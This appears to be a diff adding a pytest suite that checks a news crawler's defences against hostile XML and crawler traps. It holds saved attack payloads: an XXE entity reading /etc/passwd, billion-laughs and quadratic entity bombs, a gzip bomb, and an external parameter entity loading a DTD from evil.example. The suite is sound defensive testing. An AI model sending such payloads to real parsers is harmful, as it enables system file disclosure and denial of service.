@@ -1,0 +1,236 @@
+"""Fault catalogue D1–D7 (untrusted XML and crawler traps): saved payloads and one crawl."""
+
+from __future__ import annotations
+
+import time
+import tracemalloc
+import zlib
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+
+from crawler.discovery import DiscoveryError, UnsafeXMLError, parse_feed, parse_sitemap, parse_xml
+from crawler.spiders.news import MAX_SITEMAP_DEPTH
+from tests.faults.support import CrawlResult, Lab, article_html, dropped, html_route, rss
+
+pytestmark = [pytest.mark.fault]
+
+NOW = datetime(2026, 11, 26, tzinfo=UTC)
+XXE = b"""<?xml version="1.0"?>
+<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title><link>http://x.example/1</link></item></channel></rss>"""
+LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
+    + b']><rss><channel><item><title>&lol9;</title><link>http://x.example/1</link></item></channel></rss>'
+)
+QUADRATIC = (
+    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"A" * 200 + b'">]><rss><channel><item><title>'
+    + b"&a;" * 20000
+    + b"</title><link>http://x.example/1</link></item></channel></rss>"
+)
+INTERNAL = b"""<?xml version="1.0" encoding="utf-8"?>
+<!DOCTYPE feed [<!ENTITY base "tag:news.example,2024:"> <!ENTITY site "https://news.example">]>
+<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
+<entry><id>&base;1</id><title>Entity &amp; title</title><link href="&site;/news/1"/></entry></feed>"""
+NESTED_INTERNAL = b"""<?xml version="1.0"?>
+<!DOCTYPE feed [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>
+<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>&b;</id><link href="https://news.example/1"/></entry></feed>"""
+
+
+def _gzip_zeros(size: int) -> bytes:
+    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
+    block = b"\0" * (1024 * 1024)
+    return b"".join(comp.compress(block) for _ in range(size // len(block))) + comp.flush()
+
+
+def _sitemap_index(base: str, targets: list[str]) -> bytes:
+    items = "".join(f"<sitemap><loc>{base}{t}</loc></sitemap>" for t in targets)
+    return f'<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{items}</sitemapindex>'.encode()
+
+
+# -- parser level (saved payloads) -----------------------------------------------------------
+
+
+def test_d1_xxe_not_resolved() -> None:
+    with pytest.raises(UnsafeXMLError):
+        parse_feed(XXE, "http://x.example/", tz="Europe/Moscow", now=NOW)
+
+
+@pytest.mark.parametrize("payload", [LAUGHS, QUADRATIC], ids=["billion_laughs", "quadratic"])
+def test_d2_entity_expansion_rejected_fast_bounded_memory(payload: bytes) -> None:
+    tracemalloc.start()
+    t0 = time.perf_counter()
+    with pytest.raises(UnsafeXMLError):
+        parse_xml(payload)
+    elapsed = time.perf_counter() - t0
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert elapsed < 0.5 and peak < 50 * 1024 * 1024
+
+
+def test_d3_gzip_bomb_sitemap_capped() -> None:
+    bomb = _gzip_zeros(80 * 1024 * 1024)
+    assert len(bomb) < 200 * 1024
+    t0 = time.perf_counter()
+    with pytest.raises(UnsafeXMLError, match="larger than"):
+        parse_sitemap(bomb, "http://x.example/", tz="Europe/Moscow", now=NOW)
+    assert time.perf_counter() - t0 < 5
+
+
+def test_d5_broken_feed_recovered_or_refused() -> None:
+    truncated = rss("http://x.example/", ["/1", "/2"])[:-40]
+    links = parse_feed(truncated, "http://x.example/", tz="Europe/Moscow", now=NOW)
+    assert [lk.url for lk in links][:1] == ["http://x.example/1"]  # recover-parse keeps what is whole
+    junk = rss("http://x.example/", ["/1"]) + b"<junk>after the root</junk>\x00\xff"
+    assert [lk.url for lk in parse_feed(junk, "http://x.example/", tz="Europe/Moscow", now=NOW)] == ["http://x.example/1"]
+    with pytest.raises(DiscoveryError):
+        parse_feed(b"\x00\x01 not xml at all", "http://x.example/", tz="Europe/Moscow", now=NOW)
+
+
+def test_d6_internal_entities_accepted() -> None:
+    """Policy: small internal text entities are expanded (reader#212); see crawler.discovery."""
+    links = parse_feed(INTERNAL, "https://news.example/", tz="Europe/Moscow", now=NOW)
+    assert [lk.url for lk in links] == ["https://news.example/news/1"]
+    assert links[0].title == "Entity & title"
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        NESTED_INTERNAL,
+        XXE,
+        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
+        b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 1000 + b'">]><rss/>',
+        b"<!DOCTYPE r [" + b"".join(b'<!ENTITY e%d "x">' % i for i in range(40)) + b"]><rss/>",
+        b'<!DOCTYPE r [<!ENTITY a "<b>markup</b>">]><rss/>',
+    ],
+    ids=["nested", "external", "parameter", "too_long", "too_many", "markup"],
+)
+def test_d6_other_entities_refused(payload: bytes) -> None:
+    with pytest.raises(UnsafeXMLError):
+        parse_xml(payload)
+
+
+# -- end to end ------------------------------------------------------------------------------
+
+
+class Xml:
+    def __init__(self, lab: Lab, result: CrawlResult, sites: dict[str, Any]) -> None:
+        self.lab, self.result, self.sites = lab, result, sites
+
+
+@pytest.fixture(scope="module")
+def xml(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Xml]:
+    lab = Lab(tmp_path_factory.mktemp("d_xml"))
+    sites: dict[str, Any] = {}
+    page = html_route(article_html("Новость из безопасно разобранной ленты"))
+    try:
+        for name, body in (("d1", XXE), ("d2", LAUGHS), ("d6_bad", NESTED_INTERNAL)):
+            s = sites[name] = lab.site({"/rss.xml": html_route(body, "application/rss+xml")})
+            lab.source(name, s.base)
+
+        s = sites["d3"] = lab.site({"/sitemap.xml.gz": (200, {"Content-Type": "application/x-gzip"}, _gzip_zeros(80 * 1024 * 1024))})
+        lab.source("d3", s.base, feed=None, sitemaps=[s.base + "sitemap.xml.gz"])
+
+        s = sites["d4"] = lab.site()
+        for i in range(50):  # index -> index -> ... 50 deep, each also pointing at itself
+            s.routes[f"/sm/{i}.xml"] = html_route(_sitemap_index(s.base, [f"sm/{i + 1}.xml", f"sm/{i}.xml"]), "application/xml")
+        lab.source("d4", s.base, feed=None, sitemaps=[s.base + "sm/0.xml"])
+
+        s = sites["d5"] = lab.site({"/news/1": page, "/news/2": page})
+        s.routes["/rss.xml"] = html_route(rss(s.base, ["/news/1", "/news/2"])[:-60], "application/rss+xml")
+        s.routes["/junk.xml"] = html_route(b"\x00\x01<<not xml", "application/rss+xml")
+        lab.source("d5", s.base, feeds=[s.base + "rss.xml", s.base + "junk.xml"])
+
+        s = sites["d6_ok"] = lab.site({"/news/1": page})
+        s.routes["/atom.xml"] = html_route(
+            INTERNAL.replace(b"https://news.example", s.base.rstrip("/").encode()), "application/atom+xml"
+        )
+        lab.source("d6_ok", s.base, feeds=[s.base + "atom.xml"])
+
+        # D7: endless pagination, a calendar that always links to the next day, growing query
+        # strings and a very long URL, all on one listing.
+        s = sites["d7"] = lab.site()
+
+        def listing(handler: Any, site: Any) -> None:
+            path = handler.path
+            n = int(path.rsplit("=", 1)[1]) if "page=" in path else 1
+            links = [f"/2024/01/{n:02d}/next", f"/news/{n}?p=1" + "&p=1" * n, "/news/" + "x" * 3000]
+            links += [f"/news/a{n}-{i}" for i in range(5)]
+            body = "".join(f'<a href="{u}">link</a>' for u in links) + f'<a class="next" href="/list?page={n + 1}">next</a>'
+            handler.send(200, {"Content-Type": "text/html; charset=utf-8"}, f"<html><body>{body}</body></html>".encode())
+
+        for n in range(1, 200):
+            s.routes[f"/list?page={n}"] = listing
+        s.routes["/list"] = listing
+        lab.source(
+            "d7",
+            s.base,
+            feed=None,
+            listings=[{"url": s.base + "list", "next_page": "css:a.next", "max_pages": 100}],
+            max_pages_per_run=5,
+        )
+        result = lab.run()
+        yield Xml(lab, result, sites)
+    finally:
+        lab.close()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("case", ["d1", "d2"])
+def test_d1_d2_source_marked_bad(xml: Xml, case: str) -> None:
+    run = xml.result.runs[case]
+    assert run["status"] == "failed" and dropped(run) == {"unsafe_xml": 1}
+    store = xml.result.store()
+    try:
+        for article in store.newest_articles(limit=1000):
+            assert "root:" not in article.title + article.text  # no file content in the DB
+    finally:
+        store.close()
+
+
+@pytest.mark.slow
+def test_d3_gzip_bomb_sitemap_end_to_end(xml: Xml) -> None:
+    run = xml.result.runs["d3"]
+    assert run["status"] == "failed" and dropped(run) == {"unsafe_xml": 1}
+
+
+@pytest.mark.slow
+def test_d4_sitemap_recursion_capped(xml: Xml) -> None:
+    run = xml.result.runs["d4"]
+    site = xml.sites["d4"]
+    fetched = sorted({p for _, p, _ in site.log if p.startswith("/sm/")})
+    assert fetched == [f"/sm/{i}.xml" for i in range(MAX_SITEMAP_DEPTH + 1)]
+    assert all(site.hits(p) == 1 for p in fetched)  # self-references not fetched again
+    assert dropped(run) == {"sitemap_depth": 1}
+
+
+@pytest.mark.slow
+def test_d5_broken_feed_does_not_crash(xml: Xml) -> None:
+    run = xml.result.runs["d5"]
+    assert run["status"] == "ok" and run["new"] >= 1  # recovered what was whole
+    assert dropped(run).get("bad_feed") == 1  # the junk one is counted and logged
+    assert xml.result.outcome.returncode == 0
+
+
+@pytest.mark.slow
+def test_d6_internal_entities_both_outcomes_end_to_end(xml: Xml) -> None:
+    ok, bad = xml.result.runs["d6_ok"], xml.result.runs["d6_bad"]
+    assert ok["status"] == "ok" and ok["new"] == 1
+    assert bad["status"] == "failed" and dropped(bad) == {"unsafe_xml": 1}
+
+
+@pytest.mark.slow
+def test_d7_crawler_trap_bounded(xml: Xml) -> None:
+    run = xml.result.runs["d7"]
+    site = xml.sites["d7"]
+    listing_pages = [p for _, p, _ in site.log if p.startswith("/list")]
+    assert len(listing_pages) <= 4  # DEPTH_LIMIT 3 stops the pagination first
+    articles = [p for _, p, _ in site.log if not p.startswith("/list") and p != "/robots.txt"]
+    assert len(articles) <= 5  # per-run page cap
+    assert run["stats"]["skipped/page_cap"] > 0
+    assert max(len(p) for p in articles) < 2048  # URLLENGTH_LIMIT
+    assert xml.result.duration < 60
